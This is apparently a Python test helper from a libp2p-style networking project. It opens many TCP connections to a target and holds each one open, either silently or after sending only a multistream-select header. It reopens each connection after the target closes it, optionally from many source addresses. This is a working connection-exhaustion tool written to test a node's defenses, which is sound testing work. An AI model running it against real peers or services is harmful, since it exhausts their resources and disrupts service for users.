"""The item-5 attacker in its own process:
``python -m tests.adversarial_net.silent_sockets IP PORT N [--sources NET K] [--header]``.

Opens N plain TCP connections to IP:PORT and re-opens each one a second after the victim closes it.
Silent by default (never writes a byte); with ``--header`` each socket sends multistream-select's
header and then nothing more, so the victim sees a talking handshake that never finishes. With
``--sources 127.0.1 40`` the sockets leave from 40 addresses of that network (127.0.1.1 .. 127.0.1.40),
the many-addresses attack of issue 27. Prints ``ready`` once N have been opened; on SIGTERM prints its
counts as JSON and exits. Its own process, so its CPU is not the honest peer's (a real attacker is
another machine).
"""

from __future__ import annotations

import argparse
import json
import signal

import trio

HEADER = b"\x13/multistream/1.0.0\n"  # what every libp2p dialer sends first


async def hold(ip: str, port: int, counts: dict[str, int], source: str | None, header: bool) -> None:
    while True:
        try:
            sock = await trio.open_tcp_stream(ip, port, local_address=source)
        except OSError:
            counts["refused"] += 1
            await trio.sleep(1)
            continue
        if header:
            try:
                await sock.send_all(HEADER)
            except trio.BrokenResourceError:
                pass  # closed at once: counted below like any other close
        counts["opened"] += 1
        try:
            while await sock.receive_some(4096):
                pass  # the victim's multistream header, if any; b"" = the victim closed it
        except trio.BrokenResourceError:
            pass
        finally:
            counts["closed_by_victim"] += 1
            await sock.aclose()
        await trio.sleep(1)


async def main(ip: str, port: int, n: int, sources: list[str], header: bool) -> None:
    counts = {"opened": 0, "refused": 0, "closed_by_victim": 0}
    with trio.open_signal_receiver(signal.SIGTERM) as signals:
        async with trio.open_nursery() as nursery:
            for i in range(n):
                nursery.start_soon(hold, ip, port, counts, sources[i % len(sources)] if sources else None, header)
            while counts["opened"] < n:
                await trio.sleep(0.02)
            print("ready", flush=True)
            async for _ in signals:
                nursery.cancel_scope.cancel()
                break
    print(json.dumps(counts), flush=True)


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    ap.add_argument("ip")
    ap.add_argument("port", type=int)
    ap.add_argument("n", type=int)
    ap.add_argument("--sources", nargs=2, metavar=("NET", "K"), help="leave from NET.1 .. NET.K")
    ap.add_argument("--header", action="store_true")
    args = ap.parse_args()
    addrs = [f"{args.sources[0]}.{i}" for i in range(1, int(args.sources[1]) + 1)] if args.sources else []
    trio.run(main, args.ip, args.port, args.n, addrs, args.header)
